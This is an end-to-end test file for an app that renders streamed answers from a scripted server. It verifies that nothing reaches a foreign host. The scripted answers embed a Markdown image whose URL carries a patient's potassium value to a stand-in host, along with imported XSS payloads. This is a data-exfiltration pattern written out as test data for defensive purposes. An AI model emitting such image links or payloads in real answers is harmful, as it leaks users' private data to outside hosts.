// The leak from issue 13, end to end in the built app: a server's answers carry a Markdown image
// whose address holds a lab value, plus every payload in tests/fixtures/xssPayloads.ts. Nothing may
// reach the foreign host (127.0.0.2) while the run streams, nor when it is reopened from History.
// The server is the scripted test double; the rendering and the browser are real.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allPayloadsDocument } from '../fixtures/xssPayloads';
import { ask, configureServer, openApp, type AppSession } from '../support/appDriver';
import { startForeignHost, type ForeignHost } from '../support/foreignHost';
import { SCRIPTS, type Script } from '../support/scriptedReplies';
import { startScriptedServer, type ScriptedServer } from '../support/scriptedServer';

let session: AppSession;
let server: ScriptedServer;
let foreign: ForeignHost;
/** Requests the browser itself started towards the foreign host (whether or not they got through). */
const browserRequests: string[] = [];
const dialogs: string[] = [];

/** The default script, with the payloads in every answer and an image in a rubric item. */
function leakyScript(host: string): Script {
  const payloads = allPayloadsDocument(host);
  return (step, call) => {
    const reply = SCRIPTS.improves(step, call);
    if (step === 'draft' || step === 'revise') {
      return { text: `${reply.text}\n\n![ECG](http://${host}/t.png?q=potassium-6.2)\n\n${payloads}` };
    }
    if (step === 'rubric') {
      const rubric = JSON.parse(reply.text) as { items: { criterion: string }[] };
      rubric.items[0]!.criterion += ` ![ECG](http://${host}/rubric.png?q=potassium-6.2)`;
      return { text: JSON.stringify(rubric) };
    }
    return reply;
  };
}

beforeAll(async () => {
  foreign = await startForeignHost();
  server = await startScriptedServer({ script: leakyScript(foreign.host) });
  session = await openApp();
  session.context.on('request', (request) => {
    if (new URL(request.url()).hostname === '127.0.0.2') browserRequests.push(request.url());
  });
  session.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
});
afterAll(async () => {
  await session?.close();
  await server?.close();
  await foreign?.close();
});

describe('rendered answers load nothing from another host', () => {
  it('a whole run streaming answers full of foreign images and payloads sends nothing to 127.0.0.2', async () => {
    const { page } = session;
    await configureServer(page, server.url);
    await ask(page, 'Potassium 6.2 on this ECG: what should I do?');
    const final = page.getByTestId('final-answer');
    await final.waitFor({ timeout: 60_000 });
    await page.waitForTimeout(500);
    expect(server.requests.map((r) => r.step)).toContain('revise');
    expect(foreign.hits).toEqual([]);
    expect(browserRequests).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(session.pageErrors).toEqual([]);
    // The placeholder says what was not loaded and from where.
    expect(await final.locator('.md-image').first().textContent()).toBe(`[image not loaded: ECG — http://${foreign.host}/t.png?q=potassium-6.2]`);
    expect(await page.locator('img').count()).toBe(0);
  });

  it('links in answers open only on a click, in a new tab, without a referrer', async () => {
    const links = await session.page
      .getByTestId('final-answer')
      .locator('a[href]')
      .evaluateAll((as) => as.map((a) => ({ href: a.getAttribute('href'), target: a.getAttribute('target'), rel: a.getAttribute('rel') })));
    // The ECG placeholder, the foreign link and its ping payload at least (javascript: links lose their href).
    expect(links.length).toBeGreaterThan(2);
    for (const link of links) {
      expect(link.href).toMatch(/^(https?|mailto):/);
      expect(link.target).toBe('_blank');
      expect(link.rel).toBe('noopener noreferrer');
    }
  });

  it('reopening the run from History after a reload sends nothing to 127.0.0.2 either', async () => {
    const { page } = session;
    await page.reload();
    await page.getByRole('navigation').getByRole('link', { name: 'History' }).click();
    await page.getByRole('link', { name: /Potassium 6\.2/ }).click();
    await page.getByTestId('final-answer').waitFor();
    // Open every round, so each stored answer is rendered.
    for (const round of await page.locator('details.round').all()) await round.evaluate((d) => d.setAttribute('open', ''));
    await page.waitForTimeout(500);
    expect(foreign.hits).toEqual([]);
    expect(browserRequests).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(session.pageErrors).toEqual([]);
    expect(await page.locator('.md-image').count()).toBeGreaterThan(1);
  });
});
